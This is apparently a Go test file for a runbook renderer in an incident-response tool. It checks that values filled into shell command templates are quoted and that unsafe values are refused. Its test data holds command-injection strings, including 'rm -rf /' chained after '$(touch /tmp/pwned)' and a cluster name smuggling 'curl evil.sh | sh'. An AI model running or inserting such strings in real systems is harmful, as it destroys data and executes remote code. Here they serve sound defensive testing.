package runbooks

import (
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/warroom/warroom-incident-app/pkg/diagnostics"
)

// Whatever a value holds, the shell it is pasted into reads it back as
// that value, outside quotes, inside single quotes and inside double
// quotes: checked by running /bin/sh on the filled templates.
func TestFillShellRoundTripsThroughARealShell(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatal(err)
	}
	values := []string{"plain", "it's", `$(touch /tmp/pwned) ; rm -rf / && echo "x" | y`, "back`tick`", `a\b'c"d$e`, "new\nline", ""}
	templates := map[string]string{
		"unquoted":  `printf '%s' {{v}}`,
		"in single": `printf '%s' 'pre-{{v}}-post'`,
		"in double": `printf '%s' "pre-{{v}}-post"`,
		"adjacent":  `printf '%s' x{{v}}y`,
	}
	wrap := map[string][2]string{"unquoted": {"", ""}, "in single": {"pre-", "-post"}, "in double": {"pre-", "-post"}, "adjacent": {"x", "y"}}
	for _, v := range values {
		for name, tmpl := range templates {
			cmd := fillShell(tmpl, func(string) (string, string, bool) { return v, "", true })
			out, err := exec.Command(sh, "-c", cmd).Output()
			want := wrap[name][0] + v + wrap[name][1]
			if err != nil || string(out) != want {
				t.Errorf("%s %q: %s printed %q (%v), want %q", name, v, cmd, out, err, want)
			}
		}
	}
}

func TestShellQuote(t *testing.T) {
	for in, want := range map[string]string{"prod": `'prod'`, "it's": `'it'\''s'`, "": `''`} {
		if got := ShellQuote(in); got != want {
			t.Errorf("ShellQuote(%q) = %s, want %s", in, got, want)
		}
	}
}

// Values reaching commands are checked per resource kind; one that fails
// is not filled in and is reported.
func TestCheckValuePerKind(t *testing.T) {
	good := map[string]string{
		"aws.region": "eu-west-1", "aws.autoScalingGroup": "statux-prod-asg-api", "aws.ecsCluster": "prod_cluster-1",
		"aws.ecsService": "checkout-api", "aws.ecrRepository": "team/statux-api", "aws.logGroup": "/ecs/statux#api",
		"aws.rdsInstance": "statux-rds", "aws.rdsCluster": "statux-aurora", "aws.containerName": "api.1",
		"aws.elastiCacheCluster": "statux-redis", "service": "checkout", "postgres.name": "orders",
		"aws.targetGroupArn": "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/statux-tg/0123456789abcdef",
		"healthUrl":          "https://statuspage-api.statux.io/api/v1/health?x=1",
	}
	for name, v := range good {
		if err := CheckValue(name, v); err != nil {
			t.Errorf("%s %q refused: %v", name, v, err)
		}
	}
	bad := map[string]string{
		"aws.region": "us-east-1; id", "aws.autoScalingGroup": "asg $(id)", "aws.ecsCluster": "prod;id",
		"aws.ecsService": "api'", "aws.ecrRepository": "Team/API", "aws.logGroup": "/ecs/a b",
		"aws.rdsInstance": "1db", "aws.rdsCluster": "db_x", "aws.containerName": "-rm",
		"aws.elastiCacheCluster": "redis`id`", "aws.targetGroupArn": "arn:aws:elasticloadbalancing:us-east-1:1:targetgroup/x/y",
		"healthUrl": "https://x.io/'$(id)'", "unknown": "x",
	}
	for name, v := range bad {
		if CheckValue(name, v) == nil {
			t.Errorf("%s %q accepted", name, v)
		}
	}
}

func TestRenderQuotesAndRefusesBadValues(t *testing.T) {
	rb := Runbook{ID: "x", Diagnosis: []string{"curl -s {{healthUrl}} | jq ."}, Options: []Option{{Title: "t", Commands: []string{
		"aws ecs update-service --cluster {{aws.ecsCluster}} --service {{aws.ecsService}} --force-new-deployment",
		`aws ssm send-command --parameters 'commands=["docker logs {{aws.containerName}} --tail 100"]'`,
	}}}}
	tg := diagnostics.Target{Service: "api", HealthURL: "https://api.example.com/health",
		AWS: &diagnostics.AWSTarget{ECSCluster: "prod; curl evil.sh | sh", ECSService: "api", ContainerName: "api"}}
	r := Render(rb, tg)
	cmds := r.Options[0].Commands
	if cmds[0] != "aws ecs update-service --cluster <aws.ecsCluster> --service 'api' --force-new-deployment" ||
		!slices.Equal(r.Invalid, []string{"aws.ecsCluster"}) || len(r.Missing) != 0 {
		t.Fatalf("%q invalid %v missing %v", cmds[0], r.Invalid, r.Missing)
	}
	if cmds[1] != `aws ssm send-command --parameters 'commands=["docker logs api --tail 100"]'` {
		t.Fatalf("inside single quotes: %q", cmds[1])
	}
	if r.Diagnosis[0] != "curl -s 'https://api.example.com/health' | jq ." {
		t.Fatalf("diagnosis %q", r.Diagnosis[0])
	}
	if strings.Contains(strings.Join(cmds, " "), "evil") {
		t.Fatal("a refused value reached a command")
	}
}
